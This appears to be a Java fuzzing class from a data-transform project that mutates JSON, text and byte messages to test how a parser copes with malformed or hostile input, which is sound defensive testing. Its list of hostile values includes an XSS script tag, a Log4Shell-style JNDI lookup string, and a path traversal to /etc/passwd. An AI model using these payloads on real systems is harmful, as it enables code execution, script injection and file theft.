package io.tributary.transform;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Random;

/** Makes other messages of a message: what a source might write after its next release, and what an attacker might. */
final class Mutation {
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    private static final List<String> HOSTILE = List.of(
            "",
            " ",
            "-",
            "\"",
            "\\",
            "\\u0000",
            "\u0000\u0001\u001f",
            "line\r\nbreak\n",
            "\ud83d\ude00\ud83d\udd25",
            "é\u2028\u2029\ufeff\uffff",
            "null",
            "true",
            "0",
            "-1",
            "99999999999999999999",
            "1e309",
            "NaN",
            "2026-02-30T25:61:61Z",
            "2026-03-01T10:00:00+01:00",
            "9999-12-31T23:59:59.999999999Z",
            "0001-01-01T00:00:00Z",
            "256.256.256.256",
            "192.0.2.1, 198.51.100.2",
            "2001:db8::1%eth0",
            "::ffff:192.0.2.1",
            "HIDDEN_DUE_TO_SECURITY_REASONS",
            "password=hunter2 Authorization: Bearer abc.def.ghi",
            "{\"password\":\"hunter2\",\"a\":[",
            "</script><script>alert(1)</script>",
            "${jndi:ldap://192.0.2.1/a}",
            "../../../../etc/passwd",
            "x".repeat(5_000));

    private final Random random;

    Mutation(long seed) {
        random = new Random(seed);
    }

    /** Another message, by a few changes of its structure where it is JSON, of its words or bytes otherwise. */
    byte[] of(byte[] message) {
        byte[] changed = message;
        for (int i = random.nextInt(4); i >= 0; i--) {
            changed = switch (random.nextInt(8)) {
                case 0 -> bytes(changed);
                case 1 -> words(changed);
                default -> structure(changed);
            };
        }
        return changed;
    }

    // ---- JSON

    private byte[] structure(byte[] message) {
        try {
            JsonNode root = JSON.readTree(message);
            if (root == null || !root.isContainerNode()) {
                return words(message);
            }
            List<JsonNode> containers = new ArrayList<>();
            collect(root, containers);
            JsonNode container = containers.get(random.nextInt(containers.size()));
            if (container instanceof ObjectNode object) {
                change(object);
            } else if (container instanceof ArrayNode array) {
                change(array);
            }
            return random.nextInt(6) == 0 ? repeatAMember(root) : JSON.writeValueAsBytes(root);
        } catch (IOException e) {
            return words(message);
        }
    }

    private static void collect(JsonNode node, List<JsonNode> containers) {
        if (node.isContainerNode()) {
            containers.add(node);
            node.forEach(child -> collect(child, containers));
        }
    }

    private void change(ObjectNode object) {
        List<String> names = new ArrayList<>();
        object.fieldNames().forEachRemaining(names::add);
        if (names.isEmpty()) {
            object.set(hostile(), value());
            return;
        }
        String name = names.get(random.nextInt(names.size()));
        switch (random.nextInt(8)) {
            case 0 -> object.remove(name);
            case 1 -> object.set(hostile(), object.remove(name));
            case 2 -> object.set(hostile(), value());
            case 3 -> object.set(name, NODES.arrayNode().add(object.get(name)));
            case 4 ->
                object.set(
                        name,
                        object.get(names.get(random.nextInt(names.size()))).deepCopy());
            default -> object.set(name, value());
        }
    }

    private void change(ArrayNode array) {
        if (array.isEmpty() || random.nextInt(3) == 0) {
            array.add(value());
        } else {
            int at = random.nextInt(array.size());
            switch (random.nextInt(3)) {
                case 0 -> array.remove(at);
                case 1 -> array.insert(at, array.get(at).deepCopy());
                default -> array.set(at, value());
            }
        }
    }

    private String hostile() {
        return HOSTILE.get(random.nextInt(HOSTILE.size()));
    }

    private JsonNode value() {
        return switch (random.nextInt(13)) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.booleanNode(random.nextBoolean());
            case 2 -> NODES.numberNode(random.nextInt());
            case 3 -> NODES.numberNode(random.nextLong());
            case 4 -> NODES.numberNode(new BigInteger(200, random));
            case 5 -> NODES.numberNode(random.nextGaussian() * 1e300);
            case 6 -> NODES.objectNode();
            case 7 -> NODES.arrayNode();
            case 8 -> NODES.objectNode().set(hostile(), NODES.textNode(hostile()));
            case 9 -> deep(2 + random.nextInt(300));
            default -> NODES.textNode(hostile());
        };
    }

    private JsonNode deep(int depth) {
        JsonNode node = NODES.textNode("deep");
        for (int i = 0; i < depth; i++) {
            node = i % 2 == 0 ? NODES.arrayNode().add(node) : NODES.objectNode().set("d", node);
        }
        return node;
    }

    /** As no tree can be: with a member twice, and with white space. */
    private byte[] repeatAMember(JsonNode root) throws JsonProcessingException {
        String text = random.nextBoolean() ? root.toPrettyString() : JSON.writeValueAsString(root);
        if (!root.isObject() || root.isEmpty()) {
            return text.getBytes(StandardCharsets.UTF_8);
        }
        List<String> names = new ArrayList<>();
        root.fieldNames().forEachRemaining(names::add);
        String name = JSON.writeValueAsString(names.get(random.nextInt(names.size())));
        String member = name + ":" + JSON.writeValueAsString(value()) + ",";
        return ("{" + member + text.substring(1)).getBytes(StandardCharsets.UTF_8);
    }

    // ---- text

    private byte[] words(byte[] message) {
        List<String> words = new ArrayList<>(Arrays.asList(new String(message, StandardCharsets.UTF_8).split(" ", -1)));
        int at = random.nextInt(words.size());
        switch (random.nextInt(6)) {
            case 0 -> words.remove(at);
            case 1 -> words.add(at, hostile());
            case 2 -> words.set(at, "-");
            case 3 -> Collections.swap(words, at, random.nextInt(words.size()));
            case 4 -> words.set(at, words.get(random.nextInt(words.size())));
            default -> words.set(at, hostile());
        }
        return String.join(" ", words).getBytes(StandardCharsets.UTF_8);
    }

    /** Bytes removed, repeated or changed; still UTF-8, as the reader of records makes them. */
    private byte[] bytes(byte[] message) {
        ByteArrayOutputStream out = new ByteArrayOutputStream(message.length + 64);
        int at = random.nextInt(message.length + 1);
        int until = Math.min(message.length, at + random.nextInt(16));
        out.write(message, 0, at);
        switch (random.nextInt(4)) {
            case 0 -> {}
            case 1 -> out.write(message, at, until - at);
            case 2 -> out.writeBytes(hostile().getBytes(StandardCharsets.UTF_8));
            default -> out.write(random.nextInt(256));
        }
        int after = random.nextInt(8) == 0 ? message.length : random.nextBoolean() ? at : until;
        out.write(message, after, message.length - after);
        return out.toString(StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_8);
    }

    /** The bytes of a record as they may arrive, whole or not. */
    byte[] anywhere(byte[] data) {
        byte[] changed = Arrays.copyOf(data, random.nextInt(10) == 0 ? random.nextInt(data.length + 1) : data.length);
        for (int i = random.nextInt(3); i > 0 && changed.length > 0; i--) {
            changed[random.nextInt(changed.length)] = (byte) random.nextInt(256);
        }
        return changed;
    }
}
